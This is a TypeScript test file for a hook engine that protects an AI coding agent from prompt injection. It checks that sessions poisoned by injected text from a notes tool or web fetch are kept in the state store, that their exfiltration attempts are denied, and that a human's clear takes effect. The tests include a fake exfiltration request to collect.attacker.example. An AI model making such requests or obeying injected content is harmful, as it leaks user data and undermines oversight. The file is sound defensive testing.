// The hook state's bound never forgets a poisoned session: clean sessions are evicted first
// (ended, untainted, longest idle); poisoned ones never; when poisoned sessions alone fill the
// bound a new session is refused (ERR_HOOK_STATE_FULL) and the old ones go on. A human's
// clear is not undone by a hook process that loaded the state before it.
import { existsSync } from "node:fs";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import {
  clearSession,
  createEngine,
  type Engine,
  type EngineState,
  emptyState,
  loadState,
  pruneSessions,
  refreshState,
  type SessionState,
  STATE_LIMITS,
  saveState,
} from "../../src/hooks/index.js";
import { decisionOf, hostsPerTest, INJECTION, post, pre, SID, workspace } from "./claude-payloads.js";
import { tempDir } from "./helpers.js";

const start_ = hostsPerTest();
const host = (ws: string, statePath?: string) => start_(ws, statePath ? { statePath } : {});

const MAX = STATE_LIMITS.MAX_SESSIONS;
const mcpInjection = (ws: string, session = SID) =>
  post(ws, "mcp__notes__get_note", { id: "x" }, [{ type: "text", text: INJECTION }], session);
const webInjection = (ws: string) =>
  post(ws, "WebFetch", { url: "https://blog.example.net/p", prompt: "p" }, { code: 200, result: INJECTION });
const exfil = (ws: string, session = SID) =>
  pre(ws, "WebFetch", { url: "https://collect.attacker.example/u?d=x", prompt: "p" }, session);
const start = (ws: string, session: string) => ({
  session_id: session,
  transcript_path: `/home/dev/.claude/projects/-ws/${session}.jsonl`,
  cwd: ws,
  permission_mode: "default",
  hook_event_name: "SessionStart",
  source: "startup",
});

function session(over: Partial<SessionState> = {}): SessionState {
  return {
    runId: "r",
    startedAt: "2026-01-01T00:00:00.000Z",
    ended: false,
    epoch: 0,
    taint: [],
    poisoned: [],
    denials: [],
    counts: {},
    ...over,
  };
}

describe("the bound never forgets a poisoned session", () => {
  it("a flood of 10 000 sessions does not evict a poisoned session (one engine, in memory)", async () => {
    const ws = workspace();
    const h = await host(ws);
    expect(decisionOf(await h.send(mcpInjection(ws)))).toBe("block");
    for (let i = 0; i < 10_000; i++) await h.send(start(ws, `flood-${i}`));
    expect(decisionOf(await h.send(exfil(ws)))).toBe("deny");
    const state = (h.engine as unknown as { state?: EngineState }).state;
    if (state) expect(Object.keys(state.sessions).length).toBeLessThanOrEqual(MAX);
  }, 120_000);

  it("a flood of 10 000 sessions written by other hook processes does not evict a poisoned session on disk", async () => {
    const ws = workspace();
    const path = join(tempDir(), "state.json");
    const first = await host(ws, path);
    expect(decisionOf(await first.send(webInjection(ws)))).toBe("block");
    const flood = emptyState();
    for (let i = 0; i < 10_000; i++)
      flood.sessions[`flood-${i}`] = session({
        startedAt: `2027-01-01T00:00:${String(i % 60).padStart(2, "0")}Z`,
      });
    saveState(path, flood);
    const onDisk = loadState(path);
    expect(Object.keys(onDisk.sessions)).toHaveLength(MAX);
    expect(onDisk.sessions[SID]?.poisoned.length).toBeGreaterThan(0);
    // The next hook process still denies the poisoned session's exfiltration.
    const next = await host(ws, path);
    expect(decisionOf(await next.send(exfil(ws)))).toBe("deny");
  });

  it("when poisoned sessions alone fill the bound, a new session is refused with ERR_HOOK_STATE_FULL and the old ones go on", async () => {
    const ws = workspace();
    const h = await host(ws);
    for (let i = 0; i < MAX; i++) await h.send(mcpInjection(ws, `poisoned-${i}`));
    const engine = h.engine as Engine;
    await engine.versionCheck({ aarts_version: "1" });
    const refused = await engine.handle({
      hook_point: "SessionStart",
      session_id: "newcomer",
      timestamp: new Date().toISOString(),
      host_id: "claude-code",
      aarts_version: "1",
    });
    expect(refused).toMatchObject({ decision: "deny", error_code: "ERR_HOOK_STATE_FULL" });
    expect(decisionOf(await h.send(pre(ws, "Bash", { command: "ls" }, "newcomer")))).toBe("deny");
    // The poisoned sessions are all kept, and still work within their limits.
    expect(decisionOf(await h.send(pre(ws, "Bash", { command: "npm test" }, "poisoned-0")))).toBe("allow");
    expect(decisionOf(await h.send(exfil(ws, `poisoned-${MAX - 1}`)))).toBe("deny");
  }, 120_000);

  it("clean sessions are evicted ended first, then untainted, then the longest idle", () => {
    const web = [{ source: "web" as const, origin: "WebFetch:web" }];
    const sessions: Record<string, SessionState> = {
      poisonedOld: session({ poisoned: ["x"], lastSeenAt: "2020-01-01" }),
      openIdle: session({ lastSeenAt: "2026-01-02" }),
      openRecent: session({ lastSeenAt: "2026-06-01" }),
      openTainted: session({ lastSeenAt: "2026-01-01", taint: web }),
      ended: session({ ended: true, lastSeenAt: "2026-12-01" }),
    };
    expect(pruneSessions(sessions, 2)).toEqual(["ended", "openIdle", "openRecent"]);
    expect(Object.keys(sessions).sort()).toEqual(["openTainted", "poisonedOld"]);
    const all: Record<string, SessionState> = {
      a: session({ poisoned: ["x"] }),
      b: session({ poisoned: ["y"] }),
    };
    expect(pruneSessions(all, 1)).toEqual([]);
  });
});

describe("a human's clear", () => {
  it("a clear is not undone by a hook process that loaded the state before it", async () => {
    const ws = workspace();
    const path = join(tempDir(), "state.json");
    const poisoner = await host(ws, path);
    await poisoner.send(mcpInjection(ws));
    const stale = await host(ws, path); // loaded the poisoned state
    const cleared = clearSession(path, SID);
    expect(cleared?.poisoned.length).toBeGreaterThan(0);
    // The stale process answers another event of the session and saves its (older) view.
    await stale.send(pre(ws, "Bash", { command: "npm test" }));
    expect(loadState(path).sessions[SID]?.poisoned).toEqual([]);
    const next = await host(ws, path);
    expect(decisionOf(await next.send(exfil(ws)))).toBe("allow");
    expect(existsSync(path)).toBe(true);
  });

  it("a long-lived engine (a daemon) takes in a human's clear: at once with refreshState, else at its next save", async () => {
    const ws = workspace();
    const path = join(tempDir(), "state.json");
    const daemon = await host(ws, path);
    await daemon.send(mcpInjection(ws));
    clearSession(path, SID);
    const memory = (daemon.engine as unknown as { state: EngineState }).state;
    refreshState(path, memory);
    expect(decisionOf(await daemon.send(exfil(ws)))).toBe("allow");
    // Without the refresh: the event after the clear is judged on the old state, the next on the new.
    await daemon.send(mcpInjection(ws));
    clearSession(path, SID);
    expect(decisionOf(await daemon.send(exfil(ws)))).toBe("deny");
    expect(decisionOf(await daemon.send(exfil(ws)))).toBe("allow");
  });

  it("a session poisoned again after a clear is poisoned", async () => {
    const ws = workspace();
    const path = join(tempDir(), "state.json");
    await (await host(ws, path)).send(mcpInjection(ws));
    clearSession(path, SID);
    await (await host(ws, path)).send(mcpInjection(ws));
    expect(decisionOf(await (await host(ws, path)).send(exfil(ws)))).toBe("deny");
    expect(createEngine).toBeTypeOf("function");
  });
});
